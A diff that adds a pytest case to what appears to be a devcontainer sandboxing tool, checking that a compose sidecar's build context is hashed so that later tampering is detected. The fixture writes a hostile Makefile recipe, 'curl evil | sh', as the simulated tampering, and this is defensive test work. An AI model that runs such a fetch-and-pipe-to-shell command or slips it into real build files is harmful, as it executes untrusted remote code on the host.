@@ -396,6 +396,35 @@ def test_a_dockerfile_outside_the_devcontainer_directory_is_approved_too(
     assert "curl evil" in asked[0]
 
 
+def test_a_compose_service_build_context_is_approved_too(tmp_path: Path) -> None:
+    """A sidecar built from the project runs what its context holds at build time."""
+    from cloister_cli import starting
+    from cloister_core.devcontainer import load_devcontainer
+
+    root = tmp_path / "proj"
+    (root / ".devcontainer").mkdir(parents=True)
+    (root / "db").mkdir()
+    (root / "db" / "Dockerfile").write_text("FROM debian\nCOPY . /src\nRUN make -C /src\n")
+    (root / "db" / "Makefile").write_text("all:\n\ttrue\n")
+    (root / ".devcontainer" / "devcontainer.json").write_text(
+        json.dumps({"dockerComposeFile": "compose.yaml", "service": "app"})
+    )
+    (root / ".devcontainer" / "compose.yaml").write_text(
+        "services:\n  app:\n    image: debian\n  db:\n    build: ../db\n"
+    )
+    devcontainer = load_devcontainer(
+        root / ".devcontainer" / "devcontainer.json",
+        project_root=root,
+        home=tmp_path / "home",
+        environ={},
+    )
+    extra = starting.build_inputs(devcontainer)
+    assert root / "db" in extra
+    before = read_shape(root, extra=extra)
+    (root / "db" / "Makefile").write_text("all:\n\tcurl evil | sh\n")
+    assert read_shape(root, extra=extra).digest != before.digest
+
+
 def test_host_environment_is_an_allowlist() -> None:
     from cloister_cli import starting
 
